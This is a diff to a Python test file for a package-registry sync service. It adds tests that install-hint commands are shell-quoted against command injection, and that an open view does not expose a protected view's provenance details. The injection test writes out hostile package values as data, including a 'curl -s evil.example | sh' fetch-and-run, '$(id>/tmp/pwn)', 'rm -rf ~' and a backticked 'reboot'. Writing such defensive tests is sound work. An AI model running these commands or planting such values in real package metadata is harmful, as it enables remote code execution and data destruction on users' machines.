@@ -7,6 +7,7 @@ from __future__ import annotations
 import html
 import json
 import re
+import shlex
 import shutil
 from collections.abc import AsyncIterator, Callable
 from pathlib import Path
@@ -21,6 +22,7 @@ from sync.curate.curation import Curator
 from sync.metrics import Metrics
 from sync.pull.engine import Engine
 from sync.serve.page import CSP, MAX_SCAN, PAGE_SIZE, SEARCH_LIMIT, find
+from sync.serve.pages.facts import install_hint
 from sync.store import open_reader, open_store
 from sync.store.sqlite.reader import SqliteReader
 from tests.fake_upstream import OFFICIAL, FakeRegistry
@@ -359,9 +361,44 @@ class TestHostileInput:
             hrefs = LINK.findall(body)
             assert not [h for h in hrefs if not h.startswith("/")], (path, hrefs)
         detail = await text_of(client, "/ui/servers/io.github.evil%2Fx")
-        assert "<b>pkg" not in detail and "npx -y &lt;b&gt;pkg&lt;/b&gt;@1" in detail
+        assert "<b>pkg" not in detail and "npx -y &#39;&lt;b&gt;pkg&lt;/b&gt;@1&#39;" in detail
         assert "<code>javascript:alert(3)</code>" in detail
         assert "&lt;i&gt;red&lt;/i&gt;" in detail and "<code>team</code>" in detail
+
+    @pytest.mark.parametrize(
+        ("package", "command"),
+        [
+            (
+                {"registryType": "npm", "identifier": "left-pad; curl -s evil.example | sh #"},
+                "npx -y 'left-pad; curl -s evil.example | sh #'",
+            ),
+            (
+                {"registryType": "pypi", "identifier": "tool", "version": "1$(id>/tmp/pwn)"},
+                "uvx 'tool==1$(id>/tmp/pwn)'",
+            ),
+            (
+                {"registryType": "oci", "identifier": "img\nrm -rf ~"},
+                "docker run -i --rm 'img\nrm -rf ~'",
+            ),
+            (
+                {"registryType": "nuget", "identifier": "Pkg", "version": "1.0`reboot`"},
+                "dnx 'Pkg@1.0`reboot`'",
+            ),
+            (
+                {"registryType": "npm", "identifier": "@scope/pkg", "version": "1.2.3"},
+                "npx -y @scope/pkg@1.2.3",
+            ),
+        ],
+    )
+    def test_an_install_hint_is_one_inert_shell_word_per_argument(
+        self, package: dict[str, Any], command: str
+    ) -> None:
+        """A hint is copied into a shell: upstream text in it never becomes a command."""
+        hint = install_hint(package)
+        assert hint.command == command
+        # Read back by a shell: the launcher, then the package as one word, nothing more.
+        words = shlex.split(hint.command)
+        assert words[-1].startswith(package["identifier"]) and len(words) <= 5
 
     async def test_a_withdrawn_version_says_why(
         self, client_for: Callable[..., Any], hostile_db: Path
@@ -419,6 +456,37 @@ class TestViews:
             assert response.status == 200 and response.headers["Cache-Control"] == "private"
             names = page_names(await response.text())
             assert all(n.startswith("io.github.a") for n in names)
+
+    async def test_a_protected_default_view_s_holdings_stay_out_of_an_open_view(
+        self, client_for: Callable[..., Any], db: Path, tmp_path: Path
+    ) -> None:
+        """With `[api.auth]`, what the default view holds is for its readers: an open view's
+        detail page leaves out the explain report (every stored copy and every rule's
+        verdict), and its status page the upstreams' passes and quarantine."""
+        tokens = tmp_path / "tokens"
+        tokens.write_text("s3cret\n")
+        config = config_for(
+            db,
+            api={"auth": {"type": "bearer", "tokens_file": str(tokens)}},
+            views=[{"name": "pub", "base_path": "/pub", "filter": {"include": ["ai.exa/*"]}}],
+        )
+        store = await open_store(config.storage)
+        try:
+            await Curator(config, store, Metrics()).reapply()
+        finally:
+            await store.close()
+        client = await client_for(config)
+        assert (await client.get("/ui/servers/ai.exa%2Fexa")).status == 401
+        detail = await text_of(client, "/pub/ui/servers/ai.exa%2Fexa")
+        assert "ai.exa/exa" in detail and 'class="provenance"' not in detail
+        status = await text_of(client, "/pub/ui/status")
+        assert "Upstream official" not in status
+        # The default view's own readers see both.
+        bearer = {"Authorization": "Bearer s3cret"}
+        response = await client.get("/ui/servers/ai.exa%2Fexa", headers=bearer)
+        assert 'class="provenance"' in await response.text()
+        response = await client.get("/ui/status", headers=bearer)
+        assert "Upstream official" in await response.text()
 
     async def test_the_default_view_moves_with_its_base_path(
         self, client_for: Callable[..., Any], db: Path
